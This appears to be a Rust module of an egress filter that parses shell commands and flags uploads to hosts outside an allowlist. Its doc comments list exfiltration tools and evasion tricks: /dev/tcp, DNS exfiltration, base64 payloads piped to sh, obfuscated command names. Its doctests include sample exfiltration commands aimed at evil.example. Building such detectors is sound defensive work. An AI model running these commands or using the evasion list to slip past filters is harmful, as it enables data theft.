//! The network rule (EG-NET-001): shell commands that send data to a
//! destination not in `allowed_hosts`.
//!
//! Commands are tokenized by a small shell parser (quotes, escapes,
//! `&& || ; |`, subshells, `$(…)`/backticks parsed recursively, heredocs,
//! variables assigned earlier in the same string), wrappers are peeled
//! (`sudo`, `env`, `command`, `xargs`, `nohup`, `time`, `timeout`, `nice`,
//! `bash -c`, `eval`, absolute paths, `echo … | base64 -d | sh`), and each
//! tool's options are read the way the tool reads them (combined short flags,
//! `--data=…`, `-d@file`, `-XPOST`). Then a per-tool rule decides whether the
//! command sends local data and where to.
//!
//! | tool | flagged when |
//! |---|---|
//! | curl, wget | a body is sent: `-d`, `-F`, `-T`, `--data*`, `--json`, `--form*`, `--upload-file`, `-X POST/PUT/PATCH`, `--post-*`, `--body-*`, `--method` |
//! | http, https, xh (httpie) | a write method, request items carrying data, `--form`, or data on stdin |
//! | nc, ncat, netcat, socat, sftp | connecting to a remote host (listeners are not flagged) |
//! | scp, rsync | the destination (last argument) is remote |
//! | ssh, telnet, openssl s_client | stdin is fed (pipe, redirect, heredoc): `tar … \| ssh host` |
//! | ftp, lftp, tftp, ncftpput, smbclient | stdin is fed or a `put` command is given |
//! | aws s3 cp/sync/mv, s3api put-object, gsutil/gcloud storage cp/rsync/mv, rclone copy/sync/move/rcat, azcopy | local data copied to a bucket or remote |
//! | gh gist create, gh release upload | always (gist.github.com / github.com) |
//! | docker/podman push, npm/pnpm/yarn publish, twine upload, gem push, cargo publish, helm push | the registry is named in the command (`host:port/image`, `--registry URL`, `--repository-url URL`, `oci://host`) |
//! | git push | to a URL, or to a remote added (`git remote add`/`set-url`) earlier in the same command |
//! | python -c, node -e, perl -e, ruby -e, php -r, Rscript/R -e, julia -e, deno eval (also heredoc and piped scripts) | the code posts, uploads or writes to a socket |
//! | wget2, lwp-request/`POST`/`PUT`, BusyBox ftpput/tftp -p, gcloud compute scp, git send-email | a body, a put or a copy to a remote |
//! | `/dev/tcp/host/port`, `/dev/udp/…` | always |
//! | dig, nslookup, host | the queried name is built from a substitution (DNS exfiltration) |
//! | mail, mailx, mutt, sendmail, swaks | an attachment or stdin body is sent |
//! | gawk `/inet/tcp/0/host/port` | always (host `0` listens and is not flagged) |
//! | PowerShell `Invoke-WebRequest`/`Invoke-RestMethod`, `WebClient.Upload*` (also `-EncodedCommand`) | a write method, `-Body`, `-InFile` or an upload call |
//! | `hf`/`huggingface-cli upload`, `kaggle … create/version/submit/push`, `gh api` with fields, `gh repo create --push` | always (huggingface.co, kaggle.com, api.github.com, github.com) |
//!
//! Commands run by other commands are read the same way: `docker`/`podman
//! run|exec … COMMAND` (or an image named after the tool, `curlimages/curl
//! -T …`), `at`/`batch` stdin, `script -c`, `su -c`, `runuser -u U --`,
//! `find -exec`, `kubectl exec --`, `env -S`, `tmux`/`screen`/`expect`/`trap`
//! command strings, wrappers without a rule of their own (`taskset`,
//! `strace`, `firejail` … followed by a network tool; package managers and
//! search tools that only name one are not read this way), `python -m twine|awscli`, payloads a
//! one-liner base64-decodes and runs, and command names hidden by empty
//! expansions (`cu$@rl`, `w${x}get`). A `$(…)` in a URL counts as data
//! unless it only names the platform or a version (`$(uname -m)`,
//! `$(lsb_release -cs)`, `$(curl -s …/stable.txt)`); `curl -G` with literal
//! `-d` values is a GET.
//!
//! With [`MatchMode::AnyHost`] any request to an unlisted host is flagged,
//! plain downloads included (curl, wget, httpie, aria2c, ssh, telnet, ftp,
//! git clone/fetch/pull, nc, scp, rsync).
//!
//! Loopback destinations (`localhost`, `127.0.0.0/8`, `::1`) are local by
//! default ([`NetworkOptions::loopback_is_local`]).
//!
//! ```
//! use palisade_egress::command::{check_command, NetworkOptions};
//! let opts = NetworkOptions::with_allowed_hosts(["data.internal"]);
//! let v = check_command("tar czf - ./out | ssh backup@evil.example 'cat > x.tgz'", &opts);
//! assert!(v.is_upload());
//! assert_eq!(v.findings[0].destination.to_string(), "evil.example");
//! assert!(!check_command("curl -sSd @r.json https://api.data.internal/v1", &opts).is_upload());
//! assert!(!check_command("git clone https://github.com/org/repo && pip install -r req.txt", &opts).is_upload());
//! ```

mod code;
mod tools;

/// The shared shell reader (`palisade-shell`).
use palisade_shell as shell;

use serde::{Deserialize, Serialize};
use std::fmt;

/// Which requests the network rule flags.
///
/// ```
/// use palisade_egress::command::MatchMode;
/// let m: MatchMode = serde_json::from_str("\"any_host\"").unwrap();
/// assert_eq!(m, MatchMode::AnyHost);
/// ```
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MatchMode {
    /// Only commands that send data out (the default).
    #[default]
    Uploads,
    /// Any request to a host not in `allowed_hosts`, downloads included.
    AnyHost,
}

/// Options of the network rule.
///
/// ```
/// use palisade_egress::command::NetworkOptions;
/// let o = NetworkOptions::with_allowed_hosts(["pypi.org", "s3://team-bucket", "rclone:backup"]);
/// assert!(o.host_allowed("files.pypi.org"));
/// assert!(!o.host_allowed("evilpypi.org"));
/// assert!(o.host_allowed("localhost"));
/// ```
#[derive(Clone, Debug, Eq, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct NetworkOptions {
    /// Allowed destinations: host names (subdomains allowed), IPs, address ranges (`10.0.0.0/8`),
    /// `s3://bucket`, `gs://bucket`, `rclone:remote`.
    pub allowed_hosts: Vec<String>,
    /// `uploads` (default) or `any_host`.
    #[serde(rename = "match")]
    pub match_mode: MatchMode,
    /// Treat loopback destinations as local (default true).
    pub loopback_is_local: bool,
}

impl Default for NetworkOptions {
    fn default() -> Self {
        NetworkOptions {
            allowed_hosts: Vec::new(),
            match_mode: MatchMode::Uploads,
            loopback_is_local: true,
        }
    }
}

impl NetworkOptions {
    /// Default options with these allowed destinations.
    ///
    /// ```
    /// use palisade_egress::command::NetworkOptions;
    /// assert_eq!(NetworkOptions::with_allowed_hosts(["a.example"]).allowed_hosts, ["a.example"]);
    /// ```
    pub fn with_allowed_hosts<S: Into<String>>(hosts: impl IntoIterator<Item = S>) -> Self {
        NetworkOptions {
            allowed_hosts: hosts.into_iter().map(Into::into).collect(),
            ..NetworkOptions::default()
        }
    }

    /// Whether a host (any case, with or without port or trailing dot) is
    /// allowed: listed itself, a subdomain of a listed host, or loopback.
    ///
    /// ```
    /// use palisade_egress::command::NetworkOptions;
    /// let o = NetworkOptions::with_allowed_hosts(["Example.COM"]);
    /// assert!(o.host_allowed("api.example.com:443"));
    /// assert!(!o.host_allowed("example.com.evil.net"));
    /// // Address ranges work too.
    /// let o = NetworkOptions::with_allowed_hosts(["10.0.0.0/8", "fd00::/8"]);
    /// assert!(o.host_allowed("10.20.30.40:22"));
    /// assert!(o.host_allowed("[fd12::1]"));
    /// assert!(!o.host_allowed("11.0.0.1"));
    /// ```
    pub fn host_allowed(&self, host: &str) -> bool {
        let host = normalize_host(host);
        if host.is_empty() {
            return false;
        }
        if self.loopback_is_local && is_loopback(&host) {
            return true;
        }
        self.allowed_hosts.iter().any(|entry| {
            let entry = entry.trim();
            if entry.starts_with("s3://")
                || entry.starts_with("gs://")
                || entry.starts_with("rclone:")
            {
                return false;
            }
            if let Some(net) = Cidr::parse(strip_scheme(entry)) {
                return net.contains(&host);
            }
            let entry = normalize_host(strip_scheme(entry));
            let entry = entry.trim_start_matches("*.").trim_start_matches('.');
            !entry.is_empty()
                && (host == entry
                    || (host.len() > entry.len()
                        && host.ends_with(entry)
                        && host.as_bytes()[host.len() - entry.len() - 1] == b'.'))
        })
    }

    /// Whether a destination is allowed.
    ///
    /// ```
    /// use palisade_egress::command::{Destination, NetworkOptions};
    /// let o = NetworkOptions::with_allowed_hosts(["s3://team-bucket", "rclone:backup"]);
    /// assert!(o.allowed(&Destination::Bucket { scheme: "s3".into(), name: "team-bucket".into() }));
    /// assert!(o.allowed(&Destination::Remote("backup".into())));
    /// assert!(!o.allowed(&Destination::Unknown));
    /// ```
    pub fn allowed(&self, dest: &Destination) -> bool {
        match dest {
            Destination::Host(h) => self.host_allowed(h),
            Destination::Bucket { scheme, name } => {
                let want = format!("{scheme}://{}", name.to_ascii_lowercase());
                self.allowed_hosts.iter().any(|e| {
                    let e = e.trim().trim_end_matches('/').to_ascii_lowercase();
                    e == want
                })
            }
            Destination::Remote(name) => self.allowed_hosts.iter().any(|e| {
                let e = e.trim();
                let named = e
                    .strip_prefix("rclone://")
                    .or_else(|| e.strip_prefix("rclone:"))
                    .unwrap_or(e);
                named.trim_end_matches(':') == name
            }),
            Destination::Unknown => false,
        }
    }
}

/// Where a command sends data.
///
/// ```
/// use palisade_egress::command::Destination;
/// assert_eq!(Destination::Bucket { scheme: "gs".into(), name: "b".into() }.to_string(), "gs://b");
/// assert_eq!(Destination::Remote("drive".into()).to_string(), "rclone:drive");
/// assert_eq!(Destination::Unknown.to_string(), "unknown");
/// ```
#[derive(Clone, Debug, Eq, PartialEq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Destination {
    /// A host name or IP address (lowercase, without port).
    Host(String),
    /// A cloud bucket: `s3://name`, `gs://name`.
    Bucket {
        /// `s3` or `gs`.
        scheme: String,
        /// The bucket name.
        name: String,
    },
    /// An rclone remote, by name.
    Remote(String),
    /// The destination could not be determined (a variable, stdin, …).
    Unknown,
}

impl fmt::Display for Destination {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Destination::Host(h) => f.write_str(h),
            Destination::Bucket { scheme, name } => write!(f, "{scheme}://{name}"),
            Destination::Remote(r) => write!(f, "rclone:{r}"),
            Destination::Unknown => f.write_str("unknown"),
        }
    }
}

/// One flagged transfer.
///
/// ```
/// use palisade_egress::command::{check_command, NetworkOptions};
/// let v = check_command("gh gist create notes.md", &NetworkOptions::default());
/// assert_eq!(v.findings[0].tool, "gh");
/// assert_eq!(v.findings[0].destination.to_string(), "gist.github.com");
/// ```
#[derive(Clone, Debug, Eq, PartialEq, Serialize, Deserialize)]
pub struct UploadFinding {
    /// The tool (`curl`, `scp`, `python -c`, `/dev/tcp`, …).
    pub tool: String,
    /// Where the data goes.
    pub destination: Destination,
    /// Why it is flagged, for messages (`curl upload`, `scp to remote host`).
    pub reason: String,
}

/// The network rule's answer for one command string.
///
/// ```
/// use palisade_egress::command::{check_command, NetworkOptions};
/// let v = check_command("ls -la", &NetworkOptions::default());
/// assert!(!v.is_upload());
/// assert!(v.problems.is_empty());
/// ```
#[derive(Clone, Debug, Default, Eq, PartialEq, Serialize, Deserialize)]
pub struct CommandVerdict {
    /// Transfers to destinations that are not allowed.
    pub findings: Vec<UploadFinding>,
    /// What the parser could not understand. When the command also looks
    /// network-related, a finding with an unknown destination says so.
    pub problems: Vec<String>,
}

impl CommandVerdict {
    /// Whether anything was flagged.
    ///
    /// ```
    /// use palisade_egress::command::{check_command, NetworkOptions};
    /// assert!(check_command("curl -T db.sql ftp://files.example/", &NetworkOptions::default()).is_upload());
    /// ```
    pub fn is_upload(&self) -> bool {
        !self.findings.is_empty()
    }
}

/// Check one shell command string. Never fails; linear in the input (the
/// parser is single-pass with bounded nesting, and counts are capped).
///
/// ```
/// use palisade_egress::command::{check_command, MatchMode, NetworkOptions};
/// let mut o = NetworkOptions::with_allowed_hosts(["pypi.org"]);
/// assert!(!check_command("curl -sL https://get.example/install.sh -o i.sh", &o).is_upload());
/// o.match_mode = MatchMode::AnyHost;
/// assert!(check_command("curl -sL https://get.example/install.sh -o i.sh", &o).is_upload());
/// ```
pub fn check_command(command: &str, options: &NetworkOptions) -> CommandVerdict {
    let parsed = shell::parse(command);
    let mut verdict = CommandVerdict {
        findings: Vec::new(),
        problems: parsed.problems.clone(),
    };
    let mut ctx = tools::Context::new(options, command.len());
    tools::analyze(&parsed, &mut ctx, 0);
    for hit in ctx.hits {
        if options.allowed(&hit.destination) {
            continue;
        }
        if !verdict.findings.contains(&hit) {
            verdict.findings.push(hit);
        }
    }
    verdict.problems.extend(ctx.problems);
    if verdict.findings.is_empty()
        && !verdict.problems.is_empty()
        && tools::looks_networked(command)
    {
        verdict.findings.push(UploadFinding {
            tool: "shell".into(),
            destination: Destination::Unknown,
            reason: format!(
                "could not parse the command ({}); it mentions a network tool",
                verdict.problems.join("; ")
            ),
        });
    }
    verdict
}

fn strip_scheme(s: &str) -> &str {
    match s.find("://") {
        Some(i) => &s[i + 3..],
        None => s,
    }
}

/// Lowercase, strip brackets, port, path and trailing dot.
pub(crate) fn normalize_host(host: &str) -> String {
    let h = host.trim();
    // A backslash ends the authority too (WHATWG URL parsing, as browsers
    // and many clients do): `https://evil.example\@allowed.example/`.
    let h = h.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let h = match h.rfind('@') {
        Some(i) => &h[i + 1..],
        None => h,
    };
    let h = if let Some(rest) = h.strip_prefix('[') {
        rest.split(']').next().unwrap_or("")
    } else if h.matches(':').count() == 1 {
        h.split(':').next().unwrap_or("")
    } else {
        h
    };
    h.trim_end_matches('.').to_ascii_lowercase()
}

/// An allowed address range, `10.0.0.0/8` or `fd00::/8`.
struct Cidr {
    /// The network address (IPv4 mapped into the low 32 bits).
    net: u128,
    /// Prefix length in bits, within the family's width.
    prefix: u32,
    /// 32 for IPv4, 128 for IPv6.
    width: u32,
}

impl Cidr {
    fn parse(entry: &str) -> Option<Cidr> {
        let (addr, prefix) = entry.trim().split_once('/')?;
        let prefix: u32 = prefix.parse().ok()?;
        let (net, width) = ip_bits(addr.trim_start_matches('[').trim_end_matches(']'))?;
        (prefix <= width).then_some(Cidr { net, prefix, width })
    }

    fn contains(&self, host: &str) -> bool {
        match ip_bits(host) {
            Some((bits, width)) if width == self.width => {
                let shift = self.width - self.prefix;
                shift >= self.width || (bits >> shift) == (self.net >> shift)
            }
            _ => false,
        }
    }
}

/// An IP address as bits and its width (32 or 128).
fn ip_bits(s: &str) -> Option<(u128, u32)> {
    if let Ok(v4) = s.parse::<std::net::Ipv4Addr>() {
        return Some((u128::from(u32::from(v4)), 32));
    }
    s.parse::<std::net::Ipv6Addr>()
        .ok()
        .map(|v6| (u128::from(v6), 128))
}

fn is_loopback(host: &str) -> bool {
    host == "localhost"
        || host.ends_with(".localhost")
        || host == "0.0.0.0"
        || host == "::"
        || host == "::1"
        || host == "0:0:0:0:0:0:0:1"
        || (host.starts_with("127.") && host.split('.').count() == 4)
}

#[cfg(test)]
mod tests;
